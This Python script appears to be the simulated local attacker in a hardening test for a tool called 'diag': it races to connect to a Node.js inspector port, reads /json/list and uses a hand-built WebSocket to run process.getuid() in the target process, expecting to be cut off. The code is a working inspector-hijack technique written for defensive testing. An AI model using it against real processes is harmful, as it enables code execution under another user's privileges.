#!/usr/bin/env python3
"""The local attacker of diag's hardening test: an unprivileged process that waits for an
inspector to open on PORT (connecting every millisecond), then reads /json/list and runs
process.getuid() in the target over the WebSocket. Prints what it got at each step and
gives up after TIMEOUT seconds. Standard library only."""
import base64, json, os, socket, struct, sys, time

port, timeout = int(sys.argv[1]), float(sys.argv[2]) if len(sys.argv) > 2 else 30
print("attacker uid", os.getuid(), flush=True)
deadline = time.time() + timeout

def connect():
    while time.time() < deadline:
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=2)
        except OSError:
            time.sleep(0.001)
    sys.exit("no inspector opened")

def http_get(path):
    s = connect()
    time.sleep(0.2)  # looks around before asking: its socket stays in the kernel's table with its uid
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk: break
        data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        length = [int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")]
        if length and len(body) >= length[0]: break
    s.close()
    return json.loads(data.partition(b"\r\n\r\n")[2])

try:
    targets = http_get("/json/list")
    print("connected: /json/list", flush=True)
    path = "/" + targets[0]["webSocketDebuggerUrl"].split("/", 3)[3]
    s = connect()
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    response = b""
    while b"\r\n\r\n" not in response:
        response += s.recv(4096)
    payload = json.dumps({"id": 1, "method": "Runtime.evaluate",
                          "params": {"expression": "process.getuid()", "returnByValue": True}}).encode()
    mask = os.urandom(4)
    header = bytes([0x81, 0x80 | 126]) + struct.pack(">H", len(payload)) if len(payload) > 125 else bytes([0x81, 0x80 | len(payload)])
    s.sendall(header + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
    frame = s.recv(65536)
    print("evaluated:", frame[2:].decode(errors="replace")[:200], flush=True)
except Exception as error:  # the inspector closed under us: what diag should cause
    print("cut off:", error, flush=True)
